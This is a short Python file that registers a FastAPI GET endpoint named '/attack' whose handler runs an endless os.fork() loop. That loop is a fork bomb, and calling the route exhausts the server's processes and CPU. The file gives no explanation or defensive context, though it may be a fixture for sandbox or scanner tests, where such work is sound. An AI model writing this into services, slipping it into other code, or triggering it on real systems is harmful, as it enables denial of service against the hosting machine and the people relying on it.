import os
import time

from fastapi import APIRouter

router = APIRouter()


@router.get("/attack")
def attack() -> None:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
